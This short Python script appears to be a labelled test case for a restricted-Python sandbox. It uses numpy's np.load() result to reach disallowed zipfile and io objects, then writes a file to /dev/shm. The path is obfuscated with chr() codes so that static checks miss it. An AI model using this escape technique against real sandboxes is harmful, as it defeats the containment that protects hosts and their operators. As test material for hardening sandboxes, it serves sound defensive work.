# source: numpy 1.24 lib/npyio.py NpzFile keeps its zipfile.ZipFile in .zip and the open file in .fid (public attributes)
# family: objects returned by allowed I/O expose non-allowed stdlib objects (zipfile.ZipFile, io.BufferedReader) through public attributes
# goal: reach zipfile.ZipFile / io.BufferedReader from np.load(), then ZipFile.extract() writes /dev/shm/a.npy (path built at run time)
import numpy as np

np.savez("bundle.npz", a=np.arange(3))
z = np.load("bundle.npz")
zf = z.zip
print(repr(zf), repr(z.fid))
dest = "".join(map(chr, [47, 100, 101, 118, 47, 115, 104, 109]))
print("extracted to", zf.extract("a.npy", dest))
